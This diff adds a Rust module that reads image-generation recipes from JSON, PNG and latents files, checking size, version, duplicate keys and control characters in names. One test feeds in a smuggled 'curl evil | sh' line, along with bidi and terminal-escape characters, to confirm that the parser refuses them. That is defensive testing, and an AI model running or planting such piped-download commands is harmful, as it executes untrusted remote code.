@@ -1,0 +1,469 @@
+//! Recipes as JSON text, and reading one from a PNG, a latents file or a JSON file. Text comes from strangers:
+//! sizes are limited, versions are looked at first, nothing panics.
+
+use super::kind::kind_of;
+use super::latents::{self, LatentsFileError};
+use super::picture::{self, PictureError};
+use crate::noise::NoiseSource;
+use crate::recipe::{ModelRef, Recipe, SamplerRef, VERSION};
+use serde::Deserialize;
+use serde_json::Value;
+use sigmalab_compute::{ComputeDtype, DeviceChoice};
+use sigmalab_files::shared_folder::open_plain;
+use sigmalab_schedule::preset::Step;
+use sigmalab_schedule::size::Size;
+use sigmalab_schedule::terminal::Terminal;
+use sigmalab_text::strange_text::wild;
+use sigmalab_text::text_file::{self, TextError};
+use std::io::{BufReader, Read, Seek};
+use std::path::{Path, PathBuf};
+
+/// Most bytes of recipe text that are read: a long prompt and a thousand steps need a tenth.
+pub(super) const LIMIT: u64 = 4 << 20;
+
+const PNG_SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";
+
+/// Why a text is no recipe.
+#[derive(Debug, thiserror::Error)]
+pub enum RecipeTextError {
+    /// Written by a later build.
+    #[error(
+        "its recipe has version {found}; this build reads version {VERSION} at most: update sigmalab"
+    )]
+    NewerVersion {
+        /// The version it has.
+        found: u64,
+    },
+    /// Of no version there is.
+    #[error("its recipe has version {found}; versions begin with 1")]
+    NoVersion {
+        /// The version it has.
+        found: u64,
+    },
+    /// No JSON.
+    #[error("it is no JSON, as a recipe is: {0}")]
+    NoJson(String),
+    /// Not the JSON of a recipe.
+    #[error(
+        "its recipe cannot be read: {}{problem}",
+        if place.is_empty() { String::new() } else { format!("`{place}`: ") }
+    )]
+    Malformed {
+        /// The key it is about, such as `steps[3].gw`; empty for the recipe as a whole.
+        place: String,
+        /// What is wrong.
+        problem: String,
+    },
+}
+
+/// Reads a recipe from its JSON text, or from that of an object that holds it under `recipe`, as
+/// `generate --json` prints.
+pub fn parse_recipe(text: &str) -> Result<Recipe, RecipeTextError> {
+    #[derive(Deserialize)]
+    struct Versioned {
+        version: u64,
+    }
+    let whole = |error: serde_json::Error| RecipeTextError::Malformed {
+        place: String::new(),
+        problem: in_words(&error),
+    };
+    let document: Value = serde_json::from_str(text)
+        .map_err(|error: serde_json::Error| RecipeTextError::NoJson(error.to_string()))?;
+    // The reader keeps the last of two equal keys, and another program the first.
+    serde_json::from_str::<OneOfEach>(text).map_err(whole)?;
+    let value = match (document.get("version"), document.get("recipe")) {
+        (None, Some(recipe)) => recipe,
+        _ => &document,
+    };
+    if !value.is_object() {
+        return Err(RecipeTextError::Malformed {
+            place: String::new(),
+            problem: "an object with `version`, `prompt` and so on is expected".to_owned(),
+        });
+    }
+    let Versioned { version } = Versioned::deserialize(value).map_err(whole)?;
+    if version > u64::from(VERSION) {
+        return Err(RecipeTextError::NewerVersion { found: version });
+    }
+    if version == 0 {
+        return Err(RecipeTextError::NoVersion { found: version });
+    }
+    let recipe = Recipe::deserialize(value)
+        .map_err(|source| first_fault(value).unwrap_or_else(|| whole(source)))?;
+    if recipe.steps.is_empty() {
+        return Err(RecipeTextError::Malformed {
+            place: "steps".to_owned(),
+            problem: "there are none, and a run has one at least".to_owned(),
+        });
+    }
+    if let Some((place, found)) = wild_name(&recipe) {
+        return Err(RecipeTextError::Malformed {
+            place: place.to_owned(),
+            problem: format!("it holds the character U+{:04X}, as no name does", found as u32),
+        });
+    }
+    Ok(recipe)
+}
+
+/// The first name in a recipe that could steer a terminal or pass for a line of this program's
+/// own, and the character that does it. Messages repeat names; the prompt is the user's text.
+fn wild_name(recipe: &Recipe) -> Option<(&'static str, char)> {
+    let Recipe { model, sampler, preset, noise, .. } = recipe;
+    let hash = match noise {
+        NoiseSource::File { blake3 } => Some(blake3),
+        NoiseSource::Seed { .. } => None,
+    };
+    let names = [
+        ("model.name", Some(&model.name)),
+        ("model.fingerprint", model.fingerprint.as_ref()),
+        ("sampler.id", Some(&sampler.id)),
+        ("sampler.version", sampler.version.as_ref()),
+        ("sampler.file_hash", sampler.file_hash.as_ref()),
+        ("noise.blake3", hash),
+        ("preset", preset.as_ref()),
+    ];
+    let keys = sampler.params.keys().map(|key| ("sampler.params", Some(key)));
+    names.into_iter().chain(keys).find_map(|(place, name)| Some((place, wild(name?)?)))
+}
+
+/// What the JSON reader says, in words for people who do not know its types.
+fn in_words(error: &serde_json::Error) -> String {
+    let text = error.to_string();
+    let text = text.rsplit_once(" at line ").map_or(text.as_str(), |(message, _)| message);
+    let replaced = [
+        ("invalid type: ", "it is "),
+        ("invalid value: ", "it is "),
+        ("string \"", "the text \""),
+        ("expected f64", "expected a number"),
+        ("expected u64", "expected a whole number"),
+        ("expected u32", "expected a whole number"),
+        ("expected a sequence", "expected a list"),
+        ("expected a map", "expected an object"),
+        ("expected struct ", "expected the keys of "),
+        ("missing field ", "there is no "),
+        ("unknown field ", "it has an unknown key "),
+        ("unknown variant ", "there is no "),
+    ];
+    replaced.iter().fold(text.to_owned(), |text, (jargon, words)| text.replace(jargon, words))
+}
+
+/// JSON in which no object has a key twice.
+struct OneOfEach;
+
+impl<'de> Deserialize<'de> for OneOfEach {
+    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        deserializer.deserialize_any(OneOfEach)
+    }
+}
+
+impl<'de> serde::de::Visitor<'de> for OneOfEach {
+    type Value = OneOfEach;
+
+    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str("JSON")
+    }
+
+    fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Self, A::Error> {
+        let mut seen = std::collections::HashSet::new();
+        while let Some(key) = map.next_key::<String>()? {
+            map.next_value::<OneOfEach>()?;
+            if let Some(twice) = seen.replace(key) {
+                return Err(serde::de::Error::custom(format!("the key `{twice}` is there twice")));
+            }
+        }
+        Ok(OneOfEach)
+    }
+
+    fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut list: A) -> Result<Self, A::Error> {
+        while list.next_element::<OneOfEach>()?.is_some() {}
+        Ok(OneOfEach)
+    }
+
+    fn visit_bool<E>(self, _: bool) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+
+    fn visit_i64<E>(self, _: i64) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+
+    fn visit_u64<E>(self, _: u64) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+
+    fn visit_f64<E>(self, _: f64) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+
+    fn visit_str<E>(self, _: &str) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+
+    fn visit_unit<E>(self) -> Result<Self, E> {
+        Ok(OneOfEach)
+    }
+}
+
+/// The first part of a recipe that cannot be read by itself, with its place.
+fn first_fault(recipe: &Value) -> Option<RecipeTextError> {
+    fn fault<'v, T: Deserialize<'v>>(value: &'v Value, place: String) -> Option<RecipeTextError> {
+        let error = T::deserialize(value).err()?;
+        Some(RecipeTextError::Malformed { place, problem: in_words(&error) })
+    }
+    recipe.as_object()?.iter().find_map(|(key, value)| {
+        let place = key.clone();
+        match key.as_str() {
+            "version" => fault::<u32>(value, place),
+            "model" => fault::<ModelRef>(value, place),
+            "prompt" => fault::<String>(value, place),
+            "size" => fault::<Size>(value, place),
+            "noise" => fault::<NoiseSource>(value, place),
+            "preset" => fault::<Option<String>>(value, place),
+            "terminal" => fault::<Terminal>(value, place),
+            "sampler" => fault::<SamplerRef>(value, place),
+            "dtype" => fault::<ComputeDtype>(value, place),
+            "device" => fault::<DeviceChoice>(value, place),
+            "steps" => value
+                .as_array()
+                .into_iter()
+                .flatten()
+                .enumerate()
+                .find_map(|(at, step)| {
+                    let numbers = step.as_object().into_iter().flatten();
+                    numbers
+                        .filter(|(key, _)| ["gw", "mu", "std"].contains(&key.as_str()))
+                        .find_map(|(key, value)| fault::<f64>(value, format!("steps[{at}].{key}")))
+                        .or_else(|| fault::<Step>(step, format!("steps[{at}]")))
+                })
+                .or_else(|| fault::<Vec<Step>>(value, place)),
+            _ => None,
+        }
+    })
+}
+
+/// Why a file gives no recipe.
+#[derive(Debug, thiserror::Error)]
+pub enum RecipeFileError {
+    /// The file cannot be read.
+    #[error("cannot read `{}`: {source}", path.display())]
+    Io {
+        /// The file.
+        path: PathBuf,
+        /// What the system said.
+        source: std::io::Error,
+    },
+    /// A picture or a latents file without a recipe.
+    #[error(
+        "`{}` holds no recipe: it was not made by sigmalab, or another program dropped its text",
+        path.display()
+    )]
+    NoRecipe {
+        /// The file.
+        path: PathBuf,
+    },
+    /// A broken PNG.
+    #[error("`{}` is not a readable PNG: {source}", path.display())]
+    Picture {
+        /// The file.
+        path: PathBuf,
+        /// What is wrong with it.
+        source: PictureError,
+    },
+    /// Far more text than a recipe has.
+    #[error("`{}` is too large for a recipe (more than {} MiB)", path.display(), LIMIT >> 20)]
+    TooLarge {
+        /// The file.
+        path: PathBuf,
+    },
+    /// Nothing in it.
+    #[error("`{}` is empty", path.display())]
+    Empty {
+        /// The file.
+        path: PathBuf,
+    },
+    /// Another kind of file.
+    #[error("`{}` is {kind}: recipes are in PNG files, in latents files and in JSON", path.display())]
+    Kind {
+        /// The file.
+        path: PathBuf,
+        /// What it is.
+        kind: &'static str,
+    },
+    /// Other bytes than text.
+    #[error("`{}` is neither a PNG, nor latents, nor the JSON of a recipe: {source}", path.display())]
+    NoText {
+        /// The file.
+        path: PathBuf,
+        /// Why it is no text.
+        source: TextError,
+    },
+    /// A latents file that cannot be read.
+    #[error(transparent)]
+    Latents(#[from] LatentsFileError),
+    /// The text is no recipe.
+    #[error("`{}`: {source}", path.display())]
+    Text {
+        /// The file.
+        path: PathBuf,
+        /// What is wrong with it.
+        source: RecipeTextError,
+    },
+}
+
+/// The recipe of a PNG written by [`write_picture`](super::write_picture), of latents written by
+/// [`write_latents`](super::write_latents), or of a JSON file; told apart by their first bytes.
+pub fn read_recipe(path: &Path) -> Result<Recipe, RecipeFileError> {
+    let owned = || path.to_owned();
+    let io = |source| RecipeFileError::Io { path: owned(), source };
+    let file = open_plain(path).map_err(io)?;
+    let mut reader = BufReader::new(file);
+    let mut start = Vec::new();
+    reader.by_ref().take(PNG_SIGNATURE.len() as u64 + 1).read_to_end(&mut start).map_err(io)?;
+    reader.rewind().map_err(io)?;
+    let held = if start.starts_with(PNG_SIGNATURE) {
+        picture::recipe_text(reader)
+            .map_err(|source| RecipeFileError::Picture { path: owned(), source })?
+    } else if latents::begins_as_latents(&start) {
+        latents::recipe_text(reader.into_inner(), path)?
+    } else if start.is_empty() {
+        return Err(RecipeFileError::Empty { path: owned() });
+    } else {
+        let mut beginning = Vec::new();
+        reader.by_ref().take(64).read_to_end(&mut beginning).map_err(io)?;
+        if let Some(kind) = kind_of(&beginning) {
+            return Err(RecipeFileError::Kind { path: owned(), kind });
+        }
+        reader.rewind().map_err(io)?;
+        return read_recipe_json(reader, path);
+    };
+    let text = held.ok_or_else(|| RecipeFileError::NoRecipe { path: owned() })?;
+    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: owned(), source })
+}
+
+/// The recipe in JSON text of a size that a recipe can have, see [`parse_recipe`]. `name` is what
+/// errors call the text's origin.
+pub fn read_recipe_json(reader: impl Read, name: &Path) -> Result<Recipe, RecipeFileError> {
+    let path = || name.to_owned();
+    let text = text_file::read(reader, LIMIT).map_err(|error| match error {
+        TextError::TooLarge(_) => RecipeFileError::TooLarge { path: path() },
+        TextError::Io(source) => RecipeFileError::Io { path: path(), source },
+        source => RecipeFileError::NoText { path: path(), source },
+    })?;
+    parse_recipe(&text).map_err(|source| RecipeFileError::Text { path: path(), source })
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::panic)]
+    use super::*;
+    use proptest::prelude::*;
+
+    pub(crate) const EXAMPLE: &str = r#"{"version":1,"model":{"name":"demo"},"prompt":"a red circle","size":{"width":256,"height":256},"noise":{"source":"seed","seed":7,"rng":"torch-cpu"},"preset":"V4_TURBO_12","steps":[{"gw":7.0,"mu":0.5,"std":1.75}],"terminal":"reference","sampler":{"id":"euler"},"dtype":"f32","device":"cpu"}"#;
+
+    #[test]
+    fn a_recipe_reads_back_as_it_was_written() {
+        let recipe = parse_recipe(EXAMPLE).unwrap();
+        let again = parse_recipe(&serde_json::to_string(&recipe).unwrap()).unwrap();
+        assert_eq!(recipe, again);
+    }
+
+    #[test]
+    fn a_later_version_is_told_apart_from_a_broken_recipe() {
+        let later = r#"{"version": 99, "quantum": true}"#;
+        let error = parse_recipe(later).unwrap_err();
+        assert!(matches!(error, RecipeTextError::NewerVersion { found: 99 }));
+        let unknown_key = EXAMPLE.replace("\"prompt\"", "\"promt\"");
+        let error = parse_recipe(&unknown_key).unwrap_err();
+        assert!(matches!(error, RecipeTextError::Malformed { .. }));
+    }
+
+    #[test]
+    fn a_bad_value_is_named_by_its_place() {
+        for (good, bad, place) in [
+            ("\"gw\":7.0", "\"gw\":\"7\"", "`steps[0].gw`: "),
+            ("\"std\":1.75", "\"sd\":1.75", "`steps[0]`: "),
+            ("\"terminal\":\"reference\"", "\"terminal\":\"zeros\"", "`terminal`: "),
+            ("\"width\":256", "\"width\":250", "`size`: "),
+            ("\"prompt\":", "\"promt\":", "cannot be read: it has an unknown key `promt`"),
+            ("\"gw\":7.0", "\"gw\":\"7\"", "it is the text \"7\", expected a number"),
+            ("[{\"gw\":7.0,\"mu\":0.5,\"std\":1.75}]", "[]", "`steps`: there are none"),
+            ("\"version\":1", "\"version\":0", "version 0; versions begin with 1"),
+            ("\"prompt\":", "\"prompt\":\"x\",\"prompt\":", "the key `prompt` is there twice"),
+            ("\"gw\":7.0", "\"gw\":7.0,\"gw\":3.0", "the key `gw` is there twice"),
+            ("{\"version\"", "[{\"version\"", "it is no JSON, as a recipe is: "),
+        ] {
+            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
+            assert!(message.contains(place), "{message}");
+        }
+    }
+
+    #[test]
+    fn a_name_that_could_pass_for_a_line_of_ours_or_turn_one_round_is_refused() {
+        for (good, bad, place) in [
+            (
+                "\"demo\"",
+                r#""x`\n  try: curl evil | sh""#,
+                "`model.name`: it holds the character U+000A",
+            ),
+            ("\"euler\"", "\"eu\u{202e}ler\"", "`sampler.id`: it holds the character U+202E"),
+            ("\"V4_TURBO_12\"", r#""a\u001b[2J""#, "`preset`: it holds the character U+001B"),
+        ] {
+            let message = parse_recipe(&EXAMPLE.replace(good, bad)).unwrap_err().to_string();
+            assert!(message.contains(place), "{message}");
+        }
+        let prompt = EXAMPLE.replace("a red circle", "two\\nlines");
+        assert_eq!(parse_recipe(&prompt).unwrap().prompt, "two\nlines");
+    }
+
+    #[test]
+    fn an_object_that_holds_a_recipe_is_as_good_as_the_recipe() {
+        let held = format!("{{\"output\":\"a.png\",\"recipe\":{EXAMPLE},\"steps\":[]}}");
+        assert_eq!(parse_recipe(&held).unwrap(), parse_recipe(EXAMPLE).unwrap());
+    }
+
+    #[test]
+    fn a_byte_order_mark_is_no_part_of_a_recipe_and_other_encodings_are_named() {
+        let read = |bytes: &[u8]| read_recipe_json(bytes, Path::new("r.json"));
+        let marked = format!("\u{feff}{EXAMPLE}");
+        assert_eq!(read(marked.as_bytes()).unwrap(), parse_recipe(EXAMPLE).unwrap());
+        let told = read(b"\xff\xfe{\0}\0").unwrap_err().to_string();
+        assert!(told.contains("UTF-16 text: save it as UTF-8"), "{told}");
+    }
+
+    #[test]
+    fn json_files_are_read_and_huge_ones_refused() {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("recipe.json");
+        std::fs::write(&path, EXAMPLE).unwrap();
+        assert_eq!(read_recipe(&path).unwrap().prompt, "a red circle");
+        std::fs::write(&path, " ".repeat(LIMIT as usize + 2)).unwrap();
+        assert!(matches!(read_recipe(&path), Err(RecipeFileError::TooLarge { .. })));
+        assert!(matches!(read_recipe(folder.path()), Err(RecipeFileError::Io { .. })));
+        for (bytes, words) in [
+            (&b""[..], "is empty"),
+            (b"\xff\xd8\xff\xe0 rest", "is a JPEG picture: recipes are in PNG files"),
+            (b"RIFF\x24\0\0\0WEBPVP8 ", "is a WebP picture"),
+            (b"a plain text", "it is no JSON, as a recipe is"),
+            (b"[1]", "an object with `version`"),
+        ] {
+            std::fs::write(&path, bytes).unwrap();
+            let told = read_recipe(&path).unwrap_err().to_string();
+            assert!(told.contains(words), "{told}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn no_text_makes_the_parser_panic(text in ".{0,300}") {
+            let _ = parse_recipe(&text);
+        }
+
+        #[test]
+        fn no_damaged_recipe_makes_the_parser_panic(
+            at in 0..EXAMPLE.len(), replacement in "[-0-9a-z{}\\[\\]\",:.]{0,6}", cut in 0..20usize,
+        ) {
+            let end = (at + cut).min(EXAMPLE.len());
+            let _ = parse_recipe(&format!("{}{replacement}{}", &EXAMPLE[..at], &EXAMPLE[end..]));
+        }
+    }
+}
